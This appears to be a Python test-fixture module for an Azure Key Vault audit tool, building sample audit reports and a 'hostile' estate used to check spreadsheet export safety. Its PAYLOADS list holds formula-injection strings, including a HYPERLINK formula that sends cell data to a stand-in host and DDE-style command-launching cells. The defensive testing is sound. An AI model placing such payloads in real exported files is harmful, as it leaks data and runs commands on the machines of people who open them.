"""Small report documents that follow the report contract (docs/architecture.md, docs/contracts/report.md)."""

from __future__ import annotations

from audit_function.vocabulary import AuditResult

TENANT = "11111111-2222-3333-4444-555555555555"
SEVERITY_OF = {
    "public-network-open": "high",
    "stranded-access-policy": "high",
    "access-policy-model": "medium",
    "purge-protection-disabled": "medium",
    "no-private-endpoint": "low",
}
ALL_RULES = [
    "access-policy-model", "dead-access-policy", "stranded-access-policy", "inert-role-assignment",
    "self-grant-path", "broad-data-role", "wildcard-custom-role", "full-access-policy",
    "public-network-open", "firewall-allows-any", "public-with-private-endpoint",
    "no-private-endpoint", "soft-delete-disabled", "purge-protection-disabled",
    "vault-tenant-mismatch", "cross-tenant-access-policy", "compound-identity-policy",
    "migration-gap", "latent-grant",
]


def subscription_id(n: int) -> str:
    return f"0000000{n}-aaaa-bbbb-cccc-dddddddddddd"


def vault_id(sub: int, rg: str, name: str) -> str:
    return f"/subscriptions/{subscription_id(sub)}/resourceGroups/{rg}/providers/Microsoft.KeyVault/vaults/{name}"


def vault(name: str, *, sub: int = 1, rg: str = "rg-app", model: str = "rbac",
          public: str = "Enabled", default_action: str | None = "Allow", tags=None, **extra) -> dict:
    row = {
        "id": vault_id(sub, rg, name), "name": name, "subscriptionId": subscription_id(sub),
        "subscriptionName": f"sub-{sub}", "resourceGroup": rg, "location": "westeurope",
        "tenantId": TENANT, "permissionModel": model, "publicNetworkAccess": public,
        "networkDefaultAction": default_action, "ipRuleCount": 0, "approvedPrivateEndpoints": 0,
        "softDeleteEnabled": True, "purgeProtectionEnabled": False,
        "accessPolicyCount": 2 if model == "accessPolicy" else 0, "rbacDataPrincipalCount": 1,
        "findingCount": 0, "findingsBySeverity": {}, "tags": tags or {"env": "prod"},
    }
    row.update(extra)
    return row


def finding(rule: str, v: dict, n: int = 0, *, principal: str | None = None, **extra) -> dict:
    severity = SEVERITY_OF.get(rule, "low")
    row = {
        "fingerprint": f"{n:016x}{rule[:8]}", "ruleId": rule, "severity": severity,
        "title": f"Title of {rule}", "message": f"{v['name']}: {rule} fired",
        "vaultId": v["id"], "vaultName": v["name"], "subscriptionId": v["subscriptionId"],
        "resourceGroup": v["resourceGroup"], "principalId": principal,
        "principalType": "User" if principal else None,
        "assignmentId": None, "roleDefinitionId": None, "roleName": None, "scope": v["id"],
        "evidence": {"rule": rule, "vault": v["name"]},
        "remediation": f"az keyvault update --name {v['name']} --fix {rule}",
    }
    row.update(extra)
    return row


def access_row(v: dict, principal: str, *, source: str = "roleAssignment", effective: bool = True,
               permissions: str = "secrets: get, list", **extra) -> dict:
    policy = source == "accessPolicy"
    row = {
        "vaultId": v["id"], "vaultName": v["name"], "subscriptionId": v["subscriptionId"],
        "resourceGroup": v["resourceGroup"], "permissionModel": v["permissionModel"],
        "principalId": principal, "principalType": "ServicePrincipal", "source": source,
        "assignmentId": None if policy else f"{v['id']}/providers/Microsoft.Authorization/roleAssignments/{principal}",
        "roleDefinitionId": None if policy else "/providers/Microsoft.Authorization/roleDefinitions/4633458b",
        "roleName": None if policy else "Key Vault Secrets User",
        "scope": None if policy else v["id"], "scopeLevel": None if policy else "vault",
        "objectScoped": False, "conditional": False, "effective": effective,
        "dataActions": ["Microsoft.KeyVault/vaults/secrets/getSecret/action",
                        "Microsoft.KeyVault/vaults/secrets/readMetadata/action"],
        "permissions": permissions,
    }
    row.update(extra)
    return row


def report(vaults: list[dict], findings: list[dict], *, gaps=(), not_evaluated=(), migration=None,
           complete: bool | None = None) -> dict:
    by_severity = {"high": 0, "medium": 0, "low": 0}
    by_rule = {rule: 0 for rule in ALL_RULES}
    for f in findings:
        by_severity[f["severity"]] = by_severity.get(f["severity"], 0) + 1
        by_rule[f["ruleId"]] = by_rule.get(f["ruleId"], 0) + 1
    doc = {
        "schemaVersion": "2.0",
        "run": {
            "id": "run-0001", "startedAt": "2026-11-24T10:00:00Z", "finishedAt": "2026-11-24T10:05:00Z",
            "source": "snapshot", "scope": {"managementGroups": ["mg-root"], "subscriptions": []},
            "complete": (not gaps) if complete is None else complete,
            "gaps": list(gaps), "notEvaluated": list(not_evaluated),
        },
        "summary": {"vaults": len(vaults), "findings": len(findings),
                    "bySeverity": by_severity, "byRule": by_rule},
        "vaults": vaults,
        "findings": findings,
    }
    if migration is not None:
        doc["migration"] = migration
    return doc


def small_estate() -> AuditResult:
    """Three vaults in two subscriptions, findings of all severities, a gap and a plan."""
    v1 = vault("kv-pay", findingCount=3, findingsBySeverity={"high": 1, "medium": 1, "low": 1})
    v2 = vault("kv-legacy", sub=2, rg="rg-old", model="accessPolicy", default_action="Deny",
               softDeleteEnabled=None)
    v3 = vault("kv-private", public="Disabled", default_action="Deny",
               approvedPrivateEndpoints=1, purgeProtectionEnabled=True)
    findings = [
        finding("public-network-open", v1, 1),
        finding("stranded-access-policy", v1, 2, principal="aaaaaaaa-0000-0000-0000-000000000001"),
        finding("access-policy-model", v2, 3),
        finding("purge-protection-disabled", v1, 4),
        finding("no-private-endpoint", v1, 5),
        finding("no-private-endpoint", v2, 6),
    ]
    access = (
        access_row(v1, "aaaaaaaa-0000-0000-0000-000000000002"),
        access_row(v2, "aaaaaaaa-0000-0000-0000-000000000003", source="accessPolicy"),
        access_row(v2, "aaaaaaaa-0000-0000-0000-000000000004", effective=False),
    )
    migration = [
        {"vaultId": v2["id"], "vaultName": v2["name"], "readiness": "needs-assignments",
         "reasons": ["1 principal has no RBAC equivalent yet"],
         "entries": [
             {"principalId": "aaaaaaaa-0000-0000-0000-000000000003",
              "proposedRoles": ["Key Vault Secrets User"], "excess": [],
              "commands": ["az role assignment create --role 'Key Vault Secrets User' ...",
                           "resource ra 'Microsoft.Authorization/roleAssignments@2022-04-01' = {...}"]},
             {"principalId": "aaaaaaaa-0000-0000-0000-000000000005",
              "proposedRoles": ["Key Vault Secrets Officer"], "excess": ["secrets: set"], "commands": []},
         ]},
        {"vaultId": vault_id(3, "rg-x", "kv-gone"), "readiness": "blocked"},  # no name, no entries
    ]
    doc = report(
        [v1, v2, v3], findings,
        gaps=[{"scope": f"/subscriptions/{subscription_id(9)}", "table": "vaults", "reason": "403 Forbidden"}],
        not_evaluated=[{"ruleId": "vault-tenant-mismatch", "vaultId": v2["id"], "reason": "properties.tenantId missing"}],
        migration=migration,
    )
    return AuditResult(report=doc, access=access)


# Formula-injection payloads, one per trigger character (=, +, -, @, tab, CR).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def as_read_back(text: str) -> str:
    """What a neutralized payload reads back as: apostrophe prefix, CR/CRLF as LF."""
    return "'" + text.replace("\r\n", "\n").replace("\r", "\n")


def hostile_estate() -> AuditResult:
    """Every estate-controlled text field of every sheet carries a payload."""
    p = PAYLOADS
    v1 = vault(p[0], rg=p[1], tags={p[2]: p[3], "owner": "x"}, subscriptionName=p[4], location=p[5], owner=p[3])
    v2 = vault(p[1], sub=2, model="accessPolicy", tags={"k": "v"}, subscriptionName=p[3], owner=p[5])
    findings = []
    for i, payload in enumerate(p):
        v = v1 if i % 2 == 0 else v2
        findings.append(finding(
            "stranded-access-policy", v, i, principal=payload,
            title=payload, message=payload, remediation=payload, roleName=payload,
            principalType=payload, resourceGroup=payload, scope=payload,
            assignmentId=payload, evidence={"displayName": payload},
            status=payload, firstSeen=payload, suppressed=False, suppression={"reason": payload},
            owner=payload,
        ))
    access = tuple(
        access_row(v1, payload, permissions=payload, roleName=payload, principalType=payload,
                   scope=payload, resourceGroup=payload, dataActions=[payload], vaultName=p[0])
        for payload in p
    )
    migration = [{
        "vaultId": v2["id"], "vaultName": p[1], "readiness": "blocked", "reasons": [payload_ for payload_ in p[:2]],
        "entries": [{"principalId": payload, "proposedRoles": [payload], "excess": [payload],
                     "commands": [payload, "az role assignment create ..."]} for payload in p],
    }]
    doc = report(
        [v1, v2], findings,
        gaps=[{"scope": payload, "table": payload, "reason": payload} for payload in p],
        not_evaluated=[{"ruleId": payload, "vaultId": v1["id"], "reason": payload} for payload in p],
        migration=migration,
    )
    doc["run"]["id"] = p[0]
    doc["run"]["scope"] = p[2]
    doc["summary"]["trend"] = [{"runAt": payload, "high": i, "medium": 1, "low": 0, "new": 1, "resolved": 0}
                               for i, payload in enumerate(p)]
    return AuditResult(report=doc, access=access)


def trend(points: int, *, start: int = 1) -> list[dict]:
    """``points`` weekly trend points, oldest first (the last one is the current run)."""
    return [{"runAt": f"2026-{(start + i - 1) // 4 + 1:02d}-{(start + i - 1) % 4 * 7 + 1:02d}T06:00:00Z",
             "high": 10 + i, "medium": 20 - i, "low": 5 + i % 3, "new": i % 4, "resolved": (i * 3) % 5}
            for i in range(points)]
